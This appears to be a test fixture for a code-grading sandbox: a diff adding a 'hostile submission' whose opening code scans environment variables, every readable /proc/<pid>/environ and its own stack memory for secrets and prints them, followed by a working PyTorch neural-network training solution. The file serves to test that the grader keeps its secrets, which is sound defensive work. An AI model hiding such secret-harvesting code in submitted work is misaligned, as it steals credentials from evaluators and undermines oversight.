@@ -1,0 +1,129 @@
+"""Hostile submission (a leak): looks for the grader's environment in its own process: os.environ,
+/proc/self/environ, every /proc/<pid>/environ it can open, and the memory of its initial stack
+(where the environment block a process was started with stays after os.environ is cleared),
+read through /proc/self/mem. Prints every "SECRET" it finds; then is a correct solution. The
+test puts a secret in the grader's environment and checks that none of it is printed.
+"""
+
+import ctypes
+import os
+import re
+
+_found = []
+for _key, _value in os.environ.items():
+    if "SECRET" in _key:
+        _found.append(f"os.environ {_key}={_value}")
+for _pid in ["self"] + [p for p in os.listdir("/proc") if p.isdigit()]:
+    try:
+        with open(f"/proc/{_pid}/environ", "rb") as _f:
+            for _entry in _f.read().split(b"\0"):
+                if b"SECRET" in _entry:
+                    _found.append(f"/proc/{_pid}/environ {_entry.decode(errors='replace')}")
+    except OSError:
+        pass
+
+
+
+def _read_memory(start, end):
+    """Its own memory: through /proc/self/mem, or directly (ctypes) where that is refused."""
+    try:
+        with open("/proc/self/mem", "rb") as mem:
+            mem.seek(start)
+            return mem.read(end - start)
+    except OSError:
+        return ctypes.string_at(start, end - start)
+
+
+with open("/proc/self/maps") as _maps:
+    for _line in _maps:
+        if "[stack]" not in _line:
+            continue
+        _start, _end = (int(x, 16) for x in _line.split()[0].split("-"))
+        _stack = _read_memory(_start, _end)
+        for _match in re.finditer(rb"[A-Z_]*SECRET[A-Z_]*=[^\0]*", _stack):
+            _found.append("stack " + _match.group().decode(errors="replace"))
+        print("stack bytes read:", len(_stack))
+print("secrets found:", _found)
+
+from typing import Dict, Optional
+
+import torch
+from torch import Tensor
+
+from helper import sigmoid
+
+
+def _float_dtype(X: Tensor) -> torch.dtype:
+    """X's dtype if it is a floating-point one, else float32."""
+    return X.dtype if X.is_floating_point() else torch.float32
+
+
+def train_neural_net(X: Tensor,
+                     Y: Tensor,
+                     weights: Optional[Dict[str, Tensor]] = None,
+                     learning_rate: float = 1.0) -> Dict[str, Tensor]:
+    """One SGD step on the batch (X, Y); returns the updated weights {'V', 'I', 'W', 'J'}.
+
+    X has shape (n, 3) and Y shape (n, 1) (float or integer labels). When ``weights`` is None
+    or empty, V, I, W and J are drawn with torch.randn in the notebook's order. The caller's
+    dict and tensors are left as they are; the returned tensors have X's dtype.
+    """
+    # check consistent batch sizes
+    assert X.shape[0] == Y.shape[0], "X and Y must have the same number of rows"
+
+    dtype = _float_dtype(X)
+    X = X.to(dtype)
+    Y = Y.to(dtype)
+
+    if not weights:
+        weights = {}
+        weights['V'] = torch.randn(3, 4, dtype=dtype)
+        weights['I'] = torch.randn(1, 4, dtype=dtype)
+        weights['W'] = torch.randn(4, 1, dtype=dtype)
+        weights['J'] = torch.randn(1, 1, dtype=dtype)
+    else:
+        weights = {name: weights[name].to(dtype) for name in ('V', 'I', 'W', 'J')}
+
+    # forward pass
+    A = torch.mm(X, weights['V']) + weights['I']
+    B = sigmoid(A)
+    C = torch.mm(B, weights['W']) + weights['J']
+    P = sigmoid(C)
+
+    # backpropagation
+    dLdP = -1.0 * (Y - P)
+    dPdC = sigmoid(C, deriv=True)
+    dLdC = dLdP * dPdC
+    dLdW = torch.mm(B.transpose(0, 1), dLdC)
+    dLdJ = dLdC.sum(dim=0).reshape(1, 1)
+
+    dLdB = torch.mm(dLdC, weights['W'].transpose(0, 1))
+    dBdA = sigmoid(A, deriv=True)
+    dLdA = dLdB * dBdA
+
+    dLdV = torch.mm(X.transpose(0, 1), dLdA)
+    dLdI = dLdA.sum(dim=0).reshape(1, 4)
+
+    # update the weights
+    weights['V'] = weights['V'] - learning_rate * dLdV
+    weights['I'] = weights['I'] - learning_rate * dLdI
+
+    weights['W'] = weights['W'] - learning_rate * dLdW
+    weights['J'] = weights['J'] - learning_rate * dLdJ
+
+    return weights
+
+
+def neural_net_predict(X: Tensor,
+                       weights: Dict[str, Tensor]) -> Tensor:
+    """The network's prediction P, shape (n, 1), for every row of X."""
+    dtype = _float_dtype(X)
+    X = X.to(dtype)
+
+    A = torch.mm(X, weights['V'].to(dtype)) + weights['I'].to(dtype)
+    B = sigmoid(A)
+
+    C = torch.mm(B, weights['W'].to(dtype)) + weights['J'].to(dtype)
+    P = sigmoid(C)
+
+    return P
